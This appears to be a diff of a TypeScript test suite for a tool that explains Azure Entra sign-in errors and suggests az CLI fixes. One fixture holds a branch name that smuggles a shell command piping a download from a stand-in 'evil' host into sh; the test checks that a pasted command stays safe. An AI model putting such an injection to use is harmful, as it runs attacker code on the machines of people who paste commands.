@@ -30,18 +30,21 @@ function explained(code: number, identity = of('github'), asked = scope): string
   return explain(signInError(said(code), { identity, scope: asked, sent }));
 }
 
-test.each([70021, 700211, 700212, 700213])('AADSTS%i: what was sent, and the command that lets it in', (code) => {
-  const text = explained(code);
-  expect(text).toContain(
-    `client ${client} of tenant ${tenant} by GitHub OIDC: AADSTS${String(code)}: No. (trace id ${trace})`,
-  );
-  expect(text).toContain(`subject ${github.sub}, issuer ${github.iss}, audience ${github.aud}`);
-  expect(text).toContain(
-    `az ad app federated-credential create --id ${client} --parameters '{"name":"github","issuer":"${github.iss}","subject":"${github.sub}","audiences":["${github.aud}"]}'`,
-  );
-  expect(text).toContain(`--issuer '${github.iss}' --subject '${github.sub}' --audiences '${github.aud}'`);
-  expect(text).toContain(`Azure correlation id: ${correlation}`);
-});
+test.each([70021, 70025, 700211, 700212, 700213, 7002138])(
+  'AADSTS%i: what was sent, and the command that lets it in',
+  (code) => {
+    const text = explained(code);
+    expect(text).toContain(
+      `client ${client} of tenant ${tenant} by GitHub OIDC: AADSTS${String(code)}: No. (trace id ${trace})`,
+    );
+    expect(text).toContain(`subject ${github.sub}, issuer ${github.iss}, audience ${github.aud}`);
+    expect(text).toContain(
+      `az ad app federated-credential create --id ${client} --parameters '{"name":"github","issuer":"${github.iss}","subject":"${github.sub}","audiences":["${github.aud}"]}'`,
+    );
+    expect(text).toContain(`--issuer '${github.iss}' --subject '${github.sub}' --audiences '${github.aud}'`);
+    expect(text).toContain(`Azure correlation id: ${correlation}`);
+  },
+);
 
 test('a branch cannot be named to run something when the command is pasted', () => {
   const sent = { ...github, sub: "repo:octo/shop:ref:refs/heads/x';curl evil|sh;'" };
@@ -61,6 +64,7 @@ test.each<[number, Identity, string, RegExp]>([
   [700027, of('certificate'), scope, /--append --cert @certificate\.pem/],
   [700016, of('github'), scope, /client-id and tenant-id[^]*Sent was subject repo:/],
   [90002, of('github'), scope, /tenant-id, or environment/],
+  [90033, of('secret'), scope, /run this again/],
   [900382, of('github'), scope, /tenant-id, or environment/],
   [7000112, of('secret'), scope, /az ad sp update --id 3333.* accountEnabled=true/],
   [53003, of('github'), scope, /Conditional Access policy[^]*correlation id/],
@@ -83,4 +87,5 @@ test('what is not of Entra is about the way there', () => {
     explain(signInError(words, { identity: of('secret'), scope, sent: {} }, advice));
   expect(text('getaddrinfo ENOTFOUND login.example')).toMatch(/ENOTFOUND[^]*Next: .*network.*HTTPS_PROXY/);
   expect(text('self-signed certificate', 'Trust it.')).toMatch(/Next: Trust it\.$/);
+  expect(text('endpoints_resolution_error: See https://aka.ms/x')).toMatch(/Next: Correct tenant-id/);
 });
